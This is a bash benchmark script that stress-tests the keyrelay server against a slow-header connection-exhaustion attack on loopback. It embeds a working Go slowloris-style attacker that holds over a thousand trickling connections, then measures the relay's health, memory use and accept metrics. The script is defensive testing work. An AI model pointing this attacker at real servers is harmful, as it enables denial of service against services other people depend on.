#!/usr/bin/env bash
# bench/abuse_accept.sh: issue 13's finding 5 at full scale. One address
# (127.0.0.1) holds ATTACK_CONNS connections that trickle a request
# header (one byte a second, never finished), opening a new one whenever
# the relay closes one, while an honest client from other loopback
# addresses (127.0.0.2 and up) sets up WebSocket pairs (keyrelay-load,
# handshake scenario, open loop) and a probe gets /healthz from 127.0.0.2
# twice a second.
#
# It builds keyrelay (the binary `go run ./cmd/keyrelay` would run) and
# keyrelay-load, and starts the relay with default limits on a free
# 127.0.0.1 port in a subshell under `ulimit -n $NOFILE` (1024, soft and
# hard, as in the finding). It runs the honest load alone for
# BASE_DURATION, then with the attack for ATTACK_DURATION, sampling the
# relay's RSS and CPU every second from /proc (bench/lib.sh does all but
# the attack and the probe). Output: a Markdown table on stdout,
# everything in OUT. Loopback only; every process it starts is killed on
# exit.
#
# Environment (all optional):
#   BASE_DURATION    honest load alone (default 10s)
#   ATTACK_DURATION  honest load under attack (default 30s)
#   ATTACK_CONNS     slow-header connections from 127.0.0.1 (default 1100)
#   RECONNECT_DELAY  how long an attacking slot waits to reconnect after
#                    the relay closed it (default 100ms)
#   NOFILE           the relay's open files limit (default 1024)
#   HONEST_ADDRS     honest source addresses (default 127.0.0.2-127.0.0.11)
#   HONEST_RATE      honest pair arrivals per second (default 4)
#   RELAY_FLAGS      extra keyrelay flags (default none: default limits)
#   OUT              output directory (default $TMPDIR/keyrelay-abuse-accept-DATE)
# shellcheck source=bench/lib.sh
. "$(dirname "$0")/lib.sh"
BASE_DURATION=${BASE_DURATION:-10s}
ATTACK_DURATION=${ATTACK_DURATION:-30s}
ATTACK_CONNS=${ATTACK_CONNS:-1100}
RECONNECT_DELAY=${RECONNECT_DELAY:-100ms}
RELAY_NOFILE=${NOFILE:-1024}
bench_init abuse-accept
bench_build

# The attacker: standard library only, built outside the module.
mkdir -p "$TMP/attack"
cat >"$TMP/attack/main.go" <<'EOF'
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

func main() {
	addr := flag.String("addr", "", "relay host:port")
	conns := flag.Int("conns", 1100, "connections held")
	d := flag.Duration("duration", 30*time.Second, "duration")
	delay := flag.Duration("reconnect-delay", 100*time.Millisecond, "wait before reconnecting a closed slot")
	flag.Parse()
	dialer := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)}, Timeout: 5 * time.Second}
	var opened, dialErrs, closedFast, closedLater, peak atomic.Int64
	var open atomic.Int64
	stop := time.Now().Add(*d)
	var wg sync.WaitGroup
	for range *conns {
		wg.Go(func() {
			for time.Now().Before(stop) {
				c, err := dialer.Dial("tcp", *addr)
				if err != nil {
					dialErrs.Add(1)
					time.Sleep(*delay)
					continue
				}
				opened.Add(1)
				if n := open.Add(1); n > peak.Load() {
					peak.Store(n)
				}
				start := time.Now()
				io.WriteString(c, "GET /healthz HTTP/1.1\r\nHost: relay\r\nX-Slow: ")
				closed := make(chan struct{})
				go func() { io.Copy(io.Discard, c); close(closed) }()
				tick := time.NewTicker(time.Second)
			hold:
				for {
					select {
					case <-closed:
						break hold
					case <-tick.C:
						if time.Now().After(stop) {
							break hold
						}
						io.WriteString(c, "a")
					}
				}
				tick.Stop()
				c.Close()
				open.Add(-1)
				if time.Now().Before(stop) {
					if time.Since(start) < 500*time.Millisecond {
						closedFast.Add(1)
					} else {
						closedLater.Add(1)
					}
					time.Sleep(*delay)
				}
			}
		})
	}
	wg.Wait()
	out, _ := json.Marshal(map[string]any{"opened": opened.Load(), "dial_errors": dialErrs.Load(),
		"closed_within_500ms": closedFast.Load(), "closed_later": closedLater.Load(), "seconds": d.Seconds()})
	fmt.Println(string(out))
}
EOF
build_standalone "$TMP/attack" "$TMP/attacker"

# The relay under `ulimit -n $RELAY_NOFILE` (soft and hard), in a subshell.
relay_start --log-level info # the limits it logs at the start are shown below
grep -E 'open files limit|accept limits' "$OUT/relay.log" >&2 || true

# probe PHASE: GET /healthz from 127.0.0.2 twice a second; "phase ok|fail".
probe() {
	while [ ! -e "$TMP/stop-$1" ]; do
		if curl -fsS --max-time 2 --interface 127.0.0.2 "http://127.0.0.1:$PORT/healthz" >/dev/null 2>&1; then
			echo "$1 ok"
		else
			echo "$1 fail"
		fi
		sleep 0.5
	done >>"$OUT/healthz.txt"
}

: >"$OUT/healthz.txt"
sample_start base
probe base &
PIDS+=($!)
honest base "$BASE_DURATION"
sample_stop base

sample_start attack
"$TMP/attacker" --addr "127.0.0.1:$PORT" --conns "$ATTACK_CONNS" --duration "$ATTACK_DURATION" --reconnect-delay "$RECONNECT_DELAY" >"$OUT/attack.json" &
ATTACKER=$!
PIDS+=("$ATTACKER")
sleep 2 # let the attack take hold
probe attack &
PIDS+=($!)
honest attack "$ATTACK_DURATION"
wait "$ATTACKER" || true
sample_stop attack
HWM=$(hwm_kib)
curl -fsS --interface 127.0.0.2 "http://127.0.0.1:$PORT/metrics" 2>/dev/null | grep -E '^keyrelay_accept' >"$OUT/accept-metrics.txt" || true
EMFILE=$(grep -c 'too many open files' "$OUT/relay.log" || true)

python3 - "$OUT" "$RSS_IDLE" "$HWM" "$ATTACK_CONNS" "$EMFILE" <<'EOF'
import json, sys
from benchlib import header, row, honest_errors
out, idle, hwm, conns, emfile = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], sys.argv[5]
probes = [l.split() for l in open(out + "/healthz.txt")]
def hz(p):
    s = [r[1] for r in probes if r[0] == p]
    return f"{s.count('ok')} / {len(s)}"
print(header(["/healthz ok"]))
print(row(out, "base", "honest load alone", [hz("base")]))
print(row(out, "attack", f"with {conns} slow-header connections from one IP", [hz("attack")]))
print()
print(f"Relay RSS idle {idle/1024:.0f} MiB, peak (VmHWM) over the run {hwm/1024:.0f} MiB; log lines with 'too many open files': {emfile}.")
a = json.load(open(out + "/attack.json"))
print(f"Attacker: {a['opened']} connections opened in {a['seconds']:.0f} s; closed by the relay within 500 ms: {a['closed_within_500ms']}, later: {a['closed_later']}; dial errors {a['dial_errors']}.")
print("Relay accept metrics: " + "; ".join(l.strip() for l in open(out + "/accept-metrics.txt")))
for line in honest_errors(out, ("base", "attack")):
    print(line)
EOF
